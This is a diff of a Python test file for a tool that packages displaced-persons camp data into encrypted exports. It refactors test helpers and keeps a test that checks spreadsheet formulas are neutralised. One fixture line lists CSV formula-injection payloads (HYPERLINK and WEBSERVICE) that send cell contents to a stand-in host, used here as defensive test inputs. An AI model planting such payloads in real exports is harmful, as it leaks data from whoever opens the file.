@@ -20,6 +20,8 @@ import yaml
 from conftest import POLICY_DIR
 from hypothesis import given, settings
 from hypothesis import strategies as st
+from test_contract import META
+from test_contract import _round as contract_round
 
 from dissemination import contacts, staging, steps
 from dissemination.__main__ import main
@@ -30,10 +32,8 @@ from dissemination.intake import import_drop
 from dissemination.ledger_migrations import open_upgraded
 from dissemination.package import DATA_FILE, open_package
 from dissemination.sensitivity import active_relational, classify_round, select_for_agreement
-from dissemination.source import RoundMeta
 
 NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
-META = RoundMeta("NGA-R007-partial", "NGA", "partial", datetime(2026, 11, 20, tzinfo=UTC))
 PASSWORD = "Vq7#pX2!mZ9$kL4@wR8%tB6^"
 #: Contacts written so that the contract or redaction missed them on 7988561.
 DISGUISED = [
@@ -48,19 +48,9 @@ FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"Bakassi")', '=WEBSERVICE("http:
 
 
 def _round(n: int = 6, **columns) -> pd.DataFrame:
-    """A small NGA round as an export holds it (text cells); ``columns`` override."""
-    base = {
-        "round_id": [META.round_id] * n,
-        "site_id": [f"NGA-S{i:05d}" for i in range(1, n + 1)],
-        "site_name": [f"Bakassi camp {i}" for i in range(1, n + 1)],
-        "admin1_pcode": ["NG008"] * n,
-        "admin2_pcode": ["NG008001"] * n,
-        "collected_on": ["2026-11-20"] * n,
-        "idp_households": [str(20 + i) for i in range(n)],
-        "idp_individuals": [str(100 + i) for i in range(n)],
-        "unaccompanied_children": ["0"] * n,
-    }
-    return pd.DataFrame({**base, **columns})
+    """test_contract's small NGA round (text cells), with households and children counted."""
+    return contract_round(n, **{"idp_households": [str(20 + i) for i in range(n)],
+                                "unaccompanied_children": ["0"] * n, **columns})
 
 
 def _check_round(path, capsys, include=POLICY_DIR) -> tuple[int, str]:
@@ -192,7 +182,7 @@ def test_the_contract_and_redaction_agree_on_every_value(policy, text):
 # --- 5. formulas --------------------------------------------------------------------------------
 
 
-def _spreadsheet_formulas(csv_bytes: bytes) -> list[tuple[int, int]]:
+def spreadsheet_formulas(csv_bytes: bytes) -> list[tuple[int, int]]:
     """Cells a spreadsheet program would run, read as Excel and LibreOffice read a CSV (RFC
     4180 quoting; a cell starting with = + - @ is a formula unless it is a number; a leading
     tab or carriage return is dropped first)."""
@@ -234,7 +224,7 @@ def test_formulas_in_a_site_name_reach_no_spreadsheet(policy, tmp_path):
         with pyzipper.AESZipFile(delivery.package_path) as zf:
             zf.setpassword(PASSWORD.encode())
             data = zf.read(DATA_FILE)
-        assert _spreadsheet_formulas(data) == []
+        assert spreadsheet_formulas(data) == []
         manifest, frame = open_package(delivery.package_path, PASSWORD)
         assert manifest["formula_cells_neutralised"] == len(FORMULAS) + 1
         assert frame["site_name"].tolist() == [  # (the contract trims what surrounds a value)
